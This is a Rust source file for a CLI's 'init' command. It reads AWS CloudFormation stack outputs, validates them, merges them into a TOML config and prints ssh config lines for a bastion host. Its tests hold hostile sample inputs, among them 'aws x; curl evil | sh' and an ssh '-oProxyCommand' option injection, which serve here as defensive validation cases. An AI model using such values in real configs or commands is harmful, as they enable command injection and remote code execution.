//! `custctl init --stack NAME`: reads the Outputs of a stack deployed from
//! `examples/aws/template.yaml` (CloudFormation DescribeStacks, or `--from-outputs` with the
//! JSON of `aws cloudformation describe-stacks`) and writes them as `[env.ENV]` into
//! custctl.toml, merged with what is there: comments, other environments and keys init does
//! not own are kept (toml_edit edits the document in place). It prints the ssh config lines
//! that reach the bastion.
//!
//! Outputs are bytes from outside: each is checked for the shape custctl expects before it is
//! written, and the ssh lines are printed only from values that cannot carry shell syntax
//! (users paste them into ~/.ssh/config, where ssh runs ProxyCommand through a shell).

use crate::cli::{GlobalArgs, InitArgs};
use crate::config::{ConfigFile, Settings, Target};
use crate::error::InputError;
use crate::output::{self, Render};
use anyhow::{Context, Result};
use serde::Serialize;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::ExitCode;

/// The Outputs init reads, what it does with each, and the config key it fills (if any).
const REQUIRED_OUTPUTS: [(&str, &str); 7] = [
    ("Region", "region"),
    ("QueueUrl", "queue"),
    ("FunctionName", "function"),
    ("DBInstanceId", "db_instance"),
    ("BastionSshTarget", "bastion"),
    ("BastionInstanceId", ""),
    ("SshProxyCommand", ""),
];

/// What `init` did or would do.
#[derive(Debug, Serialize)]
struct InitReport {
    env: String,
    file: PathBuf,
    written: bool,
    /// The `[env.ENV]` keys init set.
    settings: std::collections::BTreeMap<String, String>,
    /// Lines for ~/.ssh/config that reach the bastion.
    ssh_config: String,
}

impl Render for InitReport {
    fn rows(&self) -> (Vec<String>, Vec<Vec<String>>) {
        (Vec::new(), Vec::new())
    }

    fn line(&self) -> Option<String> {
        Some(self.ssh_config.trim_end().to_string())
    }
}

pub fn run(global: &GlobalArgs, args: &InitArgs) -> Result<ExitCode> {
    let env_name = global.env.clone().unwrap_or_else(|| args.stack.clone());
    check_env_name(&env_name)?;
    let path = ConfigFile::locate().unwrap_or_else(|| PathBuf::from("custctl.toml"));
    let existing = match std::fs::read_to_string(&path) {
        Ok(text) => text,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
        Err(e) => return Err(e).with_context(|| format!("reading {}", path.display())),
    };
    // The environment being written may not exist yet: resolve the target without it, unless
    // it does exist (its profile and region are then the ones to ask).
    let file_has_env = toml::from_str::<ConfigFile>(&existing).is_ok_and(|file| file.env.contains_key(&env_name));
    let settings = Settings::resolve_with(global, file_has_env.then_some(env_name.as_str()))?;
    let outputs = match &args.from_outputs {
        Some(file) => outputs_from_file(file, &args.stack)?,
        None => {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
            runtime.block_on(describe_stack(&settings, &args.stack))?
        }
    };
    let pipeline = PipelineOutputs::read(&outputs, &args.stack)?;

    let mut values: Vec<(&str, String)> = REQUIRED_OUTPUTS
        .iter()
        .filter(|(_, key)| !key.is_empty())
        .map(|(output, key)| (*key, pipeline.get(output).to_string()))
        .collect();
    if let Some(profile) = &global.profile {
        values.push(("profile", profile.clone()));
    }
    let mut ssh = SshHost::for_aws(&pipeline, global.profile.as_deref())?;
    match &settings.target {
        Target::Local(info) => {
            // The local stack: its endpoint, and its bastion's key and host key (what EC2
            // Instance Connect provides on AWS).
            values.push(("endpoint_url", info.endpoint.clone()));
            if let Some(bastion) = &info.bastion {
                values.push(("identity", bastion.identity.display().to_string()));
                values.push(("known_hosts", bastion.known_hosts.display().to_string()));
                ssh = SshHost::for_local(bastion);
            }
        }
        Target::Aws { endpoint_url, .. } => {
            if let Some(url) = endpoint_url {
                values.push(("endpoint_url", url.clone()));
            }
        }
    }

    let merged =
        merge_environment(&existing, &env_name, &values).map_err(|e| InputError(format!("{}: {e}", path.display())))?;
    if !args.dry_run {
        write_beside(&path, &merged).with_context(|| format!("writing {}", path.display()))?;
    }
    if !global.quiet {
        if args.dry_run {
            eprintln!(
                "custctl: dry run: {} not changed; [env.{env_name}] would be:",
                path.display()
            );
            eprintln!("{}", section_text(&merged, &env_name));
        } else {
            eprintln!(
                "custctl: wrote [env.{env_name}] to {}; use it with --env {env_name}. For ssh (custctl sql) add to ~/.ssh/config:",
                path.display()
            );
        }
    }
    let report = InitReport {
        env: env_name,
        file: path,
        written: !args.dry_run,
        settings: values.into_iter().map(|(k, v)| (k.to_string(), v)).collect(),
        ssh_config: ssh.render(),
    };
    output::print(global.output, &report)?;
    Ok(ExitCode::SUCCESS)
}

/// An environment name becomes a TOML key and a flag value: keep it plain.
fn check_env_name(name: &str) -> Result<()> {
    let plain =
        !name.is_empty() && name.len() <= 64 && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
    if plain {
        Ok(())
    } else {
        Err(InputError(format!(
            "--env {name:?}: an environment name is 1 to 64 letters, digits, - and _ (name it with --env)"
        ))
        .into())
    }
}

/// DescribeStacks for `stack`: its Outputs as `(key, value)`.
async fn describe_stack(settings: &Settings, stack: &str) -> Result<Vec<(String, String)>> {
    let config = crate::aws::sdk_config(settings).await?;
    crate::aws::require_region(&config)?;
    let client = aws_sdk_cloudformation::Client::new(&config);
    let answer = client.describe_stacks().stack_name(stack).send().await.map_err(|e| {
        let text = crate::aws::describe_sdk_error(&e);
        if text.contains("does not exist") {
            let hint = match settings.target {
                Target::Local(_) => {
                    "see --stack; the local stack describes the one `custctl local up --stack-name` names"
                }
                Target::Aws { .. } => "see --stack, --region, --profile",
            };
            anyhow::Error::new(InputError(format!(
                "no stack {stack} in {} ({hint}): {text}",
                config
                    .region()
                    .map_or_else(|| "this region".to_string(), |r| r.to_string())
            )))
        } else {
            anyhow::anyhow!("describing the stack {stack}: {text}")
        }
    })?;
    let found = answer
        .stacks()
        .iter()
        .find(|s| s.stack_name() == Some(stack))
        .or_else(|| answer.stacks().first())
        .ok_or_else(|| InputError(format!("DescribeStacks returned no stack {stack} (see --stack)")))?;
    Ok(found
        .outputs()
        .iter()
        .filter_map(|o| Some((o.output_key()?.to_string(), o.output_value()?.to_string())))
        .collect())
}

/// The Outputs of `stack` in the JSON of `aws cloudformation describe-stacks`.
fn outputs_from_file(path: &Path, stack: &str) -> Result<Vec<(String, String)>> {
    #[derive(serde::Deserialize)]
    #[serde(rename_all = "PascalCase")]
    struct Answer {
        stacks: Vec<StackJson>,
    }
    #[derive(serde::Deserialize)]
    #[serde(rename_all = "PascalCase")]
    struct StackJson {
        stack_name: Option<String>,
        #[serde(default)]
        outputs: Vec<OutputJson>,
    }
    #[derive(serde::Deserialize)]
    #[serde(rename_all = "PascalCase")]
    struct OutputJson {
        output_key: String,
        output_value: String,
    }
    let name = path.display();
    // describe-stacks answers are a few KB; a larger file is not one.
    const LIMIT: u64 = 4 * 1024 * 1024;
    let mut text = String::new();
    let read = if path.as_os_str() == "-" {
        std::io::stdin().take(LIMIT + 1).read_to_string(&mut text)
    } else {
        std::fs::File::open(path).and_then(|f| f.take(LIMIT + 1).read_to_string(&mut text))
    };
    read.map_err(|e| InputError(format!("--from-outputs {name}: {e}")))?;
    if text.len() as u64 > LIMIT {
        return Err(InputError(format!(
            "--from-outputs {name}: larger than 4 MiB; not a describe-stacks answer"
        ))
        .into());
    }
    let answer: Answer = serde_json::from_str(&text).map_err(|e| {
        InputError(format!(
            "--from-outputs {name}: not the JSON of `aws cloudformation describe-stacks` ({e})"
        ))
    })?;
    let only = answer.stacks.len() == 1;
    let found = answer
        .stacks
        .into_iter()
        .find(|s| only || s.stack_name.as_deref() == Some(stack))
        .ok_or_else(|| {
            InputError(format!(
                "--from-outputs {name}: no stack named {stack} in it (see --stack)"
            ))
        })?;
    Ok(found
        .outputs
        .into_iter()
        .map(|o| (o.output_key, o.output_value))
        .collect())
}

/// The Outputs init needs, each checked.
struct PipelineOutputs {
    values: std::collections::BTreeMap<&'static str, String>,
}

impl PipelineOutputs {
    fn read(outputs: &[(String, String)], stack: &str) -> Result<PipelineOutputs> {
        let mut values = std::collections::BTreeMap::new();
        for (key, _) in REQUIRED_OUTPUTS {
            let value = outputs
                .iter()
                .find(|(k, _)| k == key)
                .map(|(_, v)| v.clone())
                .ok_or_else(|| {
                    InputError(format!(
                        "the stack {stack} has no output {key}; custctl needs it (deploy examples/aws/template.yaml, or add the output)"
                    ))
                })?;
            check_output(key, &value).map_err(|why| InputError(format!("the stack {stack}'s output {key}: {why}")))?;
            values.insert(key, value);
        }
        Ok(PipelineOutputs { values })
    }

    fn get(&self, key: &str) -> &str {
        self.values.get(key).map_or("", String::as_str)
    }
}

/// Whether an output has the shape custctl will use it as. The reason quotes at most 40
/// characters of the value.
fn check_output(key: &str, value: &str) -> Result<(), String> {
    let quoted = || {
        let cut: String = value.chars().take(40).collect();
        format!("{cut:?}")
    };
    if value.is_empty() || value.len() > 2048 || value.chars().any(char::is_control) {
        return Err(format!(
            "{} is empty, longer than 2048 bytes or has control characters",
            quoted()
        ));
    }
    let (ok, expected) = match key {
        "Region" => (
            value
                .split('-')
                .all(|part| !part.is_empty() && part.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit())),
            "a region such as eu-west-1",
        ),
        "QueueUrl" => (
            value.starts_with("https://") || value.starts_with("http://"),
            "a queue URL",
        ),
        "FunctionName" | "DBInstanceId" => (
            value.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_'),
            "a name of letters, digits, - and _",
        ),
        "BastionSshTarget" => (
            crate::commands::sql::tunnel::BastionSpec::parse(value).is_ok() && shell_safe(value),
            "user@host[:port]",
        ),
        _ => (shell_safe(value), SHELL_SAFE),
    };
    if ok {
        Ok(())
    } else {
        Err(format!("{} is not {expected}", quoted()))
    }
}

const SHELL_SAFE: &str =
    "plain text for ~/.ssh/config (letters, digits, spaces and ._%/=:@,+- only: ssh runs ProxyCommand through a shell)";

/// Only characters that a shell takes literally (no quotes, `$`, `;`, `|`, `&`, redirections,
/// globs or backquotes), and no leading `-`.
fn shell_safe(value: &str) -> bool {
    !value.starts_with('-')
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || " ._%/=:@,+-".contains(c))
}

/// A `Host` block of ~/.ssh/config.
struct SshHost {
    host: String,
    lines: Vec<(&'static str, String)>,
}

impl SshHost {
    /// The bastion through the EC2 Instance Connect Endpoint: `Host <instance id>`, whose
    /// ProxyCommand opens the tunnel (`%h` is the instance id).
    fn for_aws(outputs: &PipelineOutputs, profile: Option<&str>) -> Result<SshHost> {
        let target =
            crate::commands::sql::tunnel::BastionSpec::parse(outputs.get("BastionSshTarget")).map_err(InputError)?;
        let mut proxy = outputs.get("SshProxyCommand").to_string();
        if let Some(profile) = profile {
            if !shell_safe(profile) {
                return Err(InputError(format!("--profile {profile:?}: not a plain profile name")).into());
            }
            proxy.push_str(&format!(" --profile {profile}"));
        }
        let mut lines = Vec::new();
        if let Some(user) = target.user {
            lines.push(("User", user));
        }
        lines.push(("ProxyCommand", proxy));
        Ok(SshHost {
            host: outputs.get("BastionInstanceId").to_string(),
            lines,
        })
    }

    /// The local stack's bastion: loopback, its key, its host key.
    fn for_local(bastion: &custctl_local::stack::BastionInfo) -> SshHost {
        SshHost {
            host: bastion.host.clone(),
            lines: vec![
                ("Port", bastion.port.to_string()),
                ("User", bastion.user.clone()),
                ("IdentityFile", bastion.identity.display().to_string()),
                ("IdentitiesOnly", "yes".into()),
                ("UserKnownHostsFile", bastion.known_hosts.display().to_string()),
            ],
        }
    }

    fn render(&self) -> String {
        let mut text = format!("Host {}\n", self.host);
        for (key, value) in &self.lines {
            text.push_str(&format!("  {key} {value}\n"));
        }
        text
    }
}

/// `text` with `[env.<name>]` holding `values`: other keys of that section, other sections and
/// every comment stay as they were.
fn merge_environment(text: &str, name: &str, values: &[(&str, String)]) -> Result<String, String> {
    let mut document: toml_edit::DocumentMut = text.parse().map_err(|e: toml_edit::TomlError| e.to_string())?;
    let env = document
        .entry("env")
        .or_insert_with(|| {
            let mut table = toml_edit::Table::new();
            // `[env.NAME]` headers only, no bare `[env]`.
            table.set_implicit(true);
            toml_edit::Item::Table(table)
        })
        .as_table_mut()
        .ok_or("`env` is not a table")?;
    let section = env
        .entry(name)
        .or_insert_with(toml_edit::table)
        .as_table_mut()
        .ok_or_else(|| format!("`env.{name}` is not a table"))?;
    for (key, value) in values {
        match section.get_mut(key).and_then(toml_edit::Item::as_value_mut) {
            // Replaced in place, so the key keeps its position and the line its comment.
            Some(existing) => {
                let decor = existing.decor().clone();
                *existing = toml_edit::Value::from(value.as_str());
                *existing.decor_mut() = decor;
            }
            None => {
                section.insert(key, toml_edit::value(value.as_str()));
            }
        }
    }
    let merged = document.to_string();
    // What is written must be what custctl reads back, unknown keys refused included.
    toml::from_str::<ConfigFile>(&merged).map_err(|e| e.message().to_string())?;
    Ok(merged)
}

/// The `[env.<name>]` section of `text`, as the file shows it.
fn section_text(text: &str, name: &str) -> String {
    let header = format!("[env.{name}]");
    let mut lines = text.lines().skip_while(|line| line.trim() != header);
    let mut section: Vec<&str> = lines.next().into_iter().collect();
    section.extend(lines.take_while(|line| !line.trim_start().starts_with('[')));
    section.join("\n").trim_end().to_string()
}

/// Writes `text` to `path` through a temporary file beside it and a rename, so a crash never
/// leaves half a config file; the file keeps its permissions.
fn write_beside(path: &Path, text: &str) -> std::io::Result<()> {
    use std::io::Write;
    let dir = match path.parent() {
        Some(dir) if !dir.as_os_str().is_empty() => dir.to_path_buf(),
        _ => PathBuf::from("."),
    };
    std::fs::create_dir_all(&dir)?;
    let mut temporary = tempfile::NamedTempFile::new_in(&dir)?;
    temporary.write_all(text.as_bytes())?;
    let permissions = match std::fs::metadata(path) {
        Ok(meta) => meta.permissions(),
        Err(_) => {
            use std::os::unix::fs::PermissionsExt;
            std::fs::Permissions::from_mode(0o644)
        }
    };
    temporary.as_file().set_permissions(permissions)?;
    temporary.persist(path).map_err(|e| e.error)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn merging_keeps_comments_other_environments_and_unowned_keys() {
        let text = "# hand-written\n[env.prod]\nregion = \"eu-west-1\" # Ireland\nidentity = \"~/.ssh/prod\"\n\n[env.staging]\nqueue = \"q\"\n";
        let merged = merge_environment(
            text,
            "prod",
            &[("region", "us-east-2".into()), ("queue", "https://sqs/q".into())],
        )
        .unwrap();
        assert!(
            merged.starts_with("# hand-written\n[env.prod]\nregion = \"us-east-2\" # Ireland\n"),
            "{merged}"
        );
        assert!(merged.contains("identity = \"~/.ssh/prod\""));
        assert!(merged.contains("[env.staging]\nqueue = \"q\""));
        assert!(merged.contains("queue = \"https://sqs/q\""));
        let fresh = merge_environment("", "dev", &[("region", "eu-west-1".into())]).unwrap();
        assert_eq!(fresh, "[env.dev]\nregion = \"eu-west-1\"\n");
    }

    #[test]
    fn hostile_outputs_are_refused() {
        assert!(check_output(
            "SshProxyCommand",
            "aws ec2-instance-connect open-tunnel --instance-id %h"
        )
        .is_ok());
        assert!(check_output("SshProxyCommand", "aws x; curl evil | sh").is_err());
        assert!(check_output("BastionSshTarget", "ec2-user@i-0abc").is_ok());
        assert!(check_output("BastionSshTarget", "-oProxyCommand=x@h").is_err());
        assert!(check_output("Region", "eu-west-1").is_ok());
        assert!(check_output("Region", "eu-west-1\n[env.x]").is_err());
        assert!(check_output("FunctionName", "a\"b").is_err());
    }

    #[test]
    fn env_names_are_plain() {
        assert!(check_env_name("prod-1").is_ok());
        assert!(check_env_name("a.b").is_err());
        assert!(check_env_name("").is_err());
    }
}
